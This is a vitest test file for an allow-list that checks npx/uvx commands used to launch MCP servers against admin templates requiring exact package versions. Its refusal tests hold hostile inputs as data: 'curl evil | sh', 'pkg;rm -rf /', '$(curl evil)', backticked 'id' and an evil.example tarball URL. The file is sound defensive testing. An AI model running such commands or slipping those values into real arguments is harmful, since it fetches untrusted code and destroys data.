import { describe, expect, it } from "vitest";
import {
  type CommandTemplate,
  DEFAULT_COMMAND_TEMPLATES,
  expandCommandTemplate,
  MAX_EXTRA_ARGS,
  matchCommandTemplate,
} from "@/server/services/settings/command-templates";

/** The stdio allow-list (PROTOCOL X2): only admin templates, filled with a package and an exact version. */
const templates = DEFAULT_COMMAND_TEMPLATES;

function refusal(command: string, args: string[], list: readonly CommandTemplate[] = templates): string {
  const result = matchCommandTemplate(list, command, args);
  if (result.ok) throw new Error(`expected a refusal, got a match of ${result.match.template.id}`);
  return result.reason;
}

describe("matchCommandTemplate: what matches", () => {
  it.each([
    ["npx", ["-y", "weather-mcp@1.2.3"], "npx", "weather-mcp", "1.2.3", []],
    ["npx", ["-y", "@acme/weather-mcp@2.1.0"], "npx", "@acme/weather-mcp", "2.1.0", []],
    [
      "npx",
      ["-y", "@modelcontextprotocol/server-everything@2025.9.25"],
      "npx",
      "@modelcontextprotocol/server-everything",
      "2025.9.25",
      [],
    ],
    ["npx", ["-y", "pkg@1.0.0-beta.2+build.5"], "npx", "pkg", "1.0.0-beta.2+build.5", []],
    [
      "npx",
      ["-y", "pkg@1.0.0", "--port", "8080", "serve"],
      "npx",
      "pkg",
      "1.0.0",
      ["--port", "8080", "serve"],
    ],
    ["uvx", ["mcp-server-fetch==2025.4.7"], "uvx", "mcp-server-fetch", "2025.4.7", []],
  ])("%s %j", (command, args, templateId, packageName, version, extraArgs) => {
    const result = matchCommandTemplate(templates, command, args);
    expect(result).toEqual({
      ok: true,
      match: {
        template: templates.find((t) => t.id === templateId),
        packageName,
        version,
        extraArgs,
      },
    });
  });

  it("expands a template back to the argv it matched", () => {
    const npx = templates.find((t) => t.id === "npx") as CommandTemplate;
    expect(expandCommandTemplate(npx, "@acme/weather-mcp", "2.1.0")).toEqual({
      command: "npx",
      args: ["-y", "@acme/weather-mcp@2.1.0"],
    });
  });
});

describe("matchCommandTemplate: what is refused", () => {
  it.each([
    ["bash", ["-c", "curl evil | sh"]],
    ["node", ["server.js"]],
    ["/usr/bin/npx", ["-y", "pkg@1.0.0"]],
    ["sh", []],
    ["NPX", ["-y", "pkg@1.0.0"]],
  ])("another command: %s", (command, args) => {
    expect(refusal(command, args)).toBe(`"${command}" is not an allowed command (allowed: npx, uvx)`);
  });

  it("says nothing is allowed when the list is empty", () => {
    expect(refusal("npx", ["-y", "pkg@1.0.0"], [])).toBe('"npx" is not an allowed command (allowed: none)');
  });

  it.each([
    ["shell metacharacters in the package", ["-y", "pkg;rm -rf /@1.0.0"]],
    ["command substitution", ["-y", "$(curl evil)@1.0.0"]],
    ["a pipe", ["-y", "pkg@1.0.0|sh"]],
    ["backticks", ["-y", "`id`@1.0.0"]],
    ["a space", ["-y", "pkg @1.0.0"]],
    ["a range", ["-y", "pkg@^1.0.0"]],
    ["a tilde range", ["-y", "pkg@~1.2"]],
    ["a comparison", ["-y", "pkg@>=1.0.0"]],
    ["the latest tag", ["-y", "pkg@latest"]],
    ["a dist-tag", ["-y", "pkg@next"]],
    ["a star", ["-y", "pkg@*"]],
    ["no version", ["-y", "pkg"]],
    ["an empty version", ["-y", "pkg@"]],
    ["a git URL", ["-y", "git+https://github.com/evil/pkg.git"]],
    ["a tarball URL", ["-y", "https://evil.example/pkg.tgz@1.0.0"]],
    ["a local path", ["-y", "../evil@1.0.0"]],
    ["a missing -y", ["pkg@1.0.0"]],
    ["another flag first", ["--package=evil", "pkg@1.0.0"]],
    ["no arguments", []],
    ["a scope without a name", ["-y", "@acme/@1.0.0"]],
    ["an upper-case scope", ["-y", "@ACME/pkg@1.0.0"]],
  ])("npx with %s", (_label, args) => {
    expect(refusal("npx", args)).toBe(
      "arguments must follow the allowed template npx -y {package}@{version}, with a package name and an exact version",
    );
  });

  it.each([
    ["a range", ["pkg>=1.0"]],
    ["no version", ["pkg"]],
    ["a shell", ["pkg==1.0;id"]],
  ])("uvx with %s", (_label, args) => {
    expect(refusal("uvx", args)).toMatch(
      /^arguments must follow the allowed template uvx \{package\}=={version}/,
    );
  });

  it("refuses more extra arguments than allowed, and control characters in them", () => {
    const many = Array.from({ length: MAX_EXTRA_ARGS + 1 }, (_, i) => `a${i}`);
    expect(refusal("npx", ["-y", "pkg@1.0.0", ...many])).toBe(
      `at most ${MAX_EXTRA_ARGS} further arguments are allowed`,
    );
    expect(matchCommandTemplate(templates, "npx", ["-y", "pkg@1.0.0", ...many.slice(1)]).ok).toBe(true);
    expect(refusal("npx", ["-y", "pkg@1.0.0", "--x\nrm"])).toBe(
      "arguments must not contain control characters or exceed 1000 characters",
    );
    expect(refusal("npx", ["-y", "pkg@1.0.0", "a".repeat(1001)])).toMatch(/exceed 1000 characters/);
  });

  it("holds with an admin's own template: literal arguments must be exactly as written", () => {
    const custom: CommandTemplate[] = [
      {
        id: "bunx",
        label: "Bun package",
        command: "bunx",
        args: ["--bun", "--no-install", "{package}@{version}"],
      },
    ];
    expect(matchCommandTemplate(custom, "bunx", ["--bun", "--no-install", "@acme/tool@3.0.1"])).toMatchObject(
      {
        ok: true,
        match: { packageName: "@acme/tool", version: "3.0.1", extraArgs: [] },
      },
    );
    expect(refusal("bunx", ["--bun", "--install", "@acme/tool@3.0.1"], custom)).toMatch(
      /^arguments must follow the allowed template bunx --bun --no-install \{package\}@\{version\}/,
    );
    expect(refusal("bunx", ["--bun", "--no-install", "@acme/tool@latest"], custom)).toMatch(/exact version/);
    expect(refusal("npx", ["-y", "pkg@1.0.0"], custom)).toBe(
      '"npx" is not an allowed command (allowed: bunx)',
    );
  });
});
